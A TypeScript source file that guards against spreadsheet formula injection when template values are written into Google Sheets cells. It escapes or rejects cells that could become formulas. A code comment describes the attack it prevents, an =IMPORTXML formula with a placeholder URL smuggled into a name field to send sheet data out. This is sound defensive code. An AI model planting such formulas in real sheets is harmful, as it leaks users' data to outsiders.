import { Rejected, type Place } from "cal-relay/sdk";
import type { Cell } from "./options.ts";

// With `valueInput: user-entered` Google runs what looks like a formula, and `=IMPORTXML("https://…" & A1)` in a stranger's name would
// carry the sheet's data away. A leading ' makes a cell text and is not shown. A cell is a formula only where the target's author wrote
// the = himself. Full-width signs count as their plain ones.

const BEGINS_FORMULA = /^\s*[=＝]/;
const BEGINS_SUM = /^[\t\r]|^\s*[+\-@＋－＠]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** A = of the author's at the cell's start, or where it comes to stand there once what precedes it is empty. */
const AUTHORS_FORMULA = /^\s*[=＝]|[%}]\}\s*[=＝]/;

/** What a template may put into a cell. Throws Rejected for a text that would become part of the author's formula itself. */
export function keepAsText(text: string, { path, root, template }: Place): string {
  if (path[0] !== "row" || isRaw(root)) return text;
  if (!AUTHORS_FORMULA.test(template)) return BEGINS_FORMULA.test(text) ? `'${text}` : text;
  if (NUMBER.test(text)) return text;
  if (isInsideQuotes(template)) return text.replaceAll('"', '""');
  throw new Rejected(
    `row.${path.slice(1).join(".")}: a text in a formula must stand inside quotes, as in =UPPER("{{ … }}")`,
  );
}

/** A whole cell, of whatever origin: no author needs a formula that begins with + - or @, and phone numbers do. */
export function withoutSums(cell: Cell): Cell {
  return typeof cell === "string" && BEGINS_SUM.test(cell) && !NUMBER.test(cell) ? `'${cell}` : cell;
}

/** Anything but a plain `raw` counts as user-entered: a template there may turn out to be either. */
function isRaw(root: unknown): boolean {
  if (typeof root !== "object" || root === null || !("valueInput" in root)) return true;
  return root.valueInput === undefined || root.valueInput === "raw";
}

/** Whether each `{{ }}` of a formula stands inside a pair of quotes. */
function isInsideQuotes(template: string): boolean {
  const formula = template.replaceAll(/\{%.*?%\}/gs, "").replaceAll(/\{\{.*?\}\}/gs, "\0");
  const outside = formula.split('"').filter((_, at) => at % 2 === 0);
  return !outside.some((part) => part.includes("\0"));
}
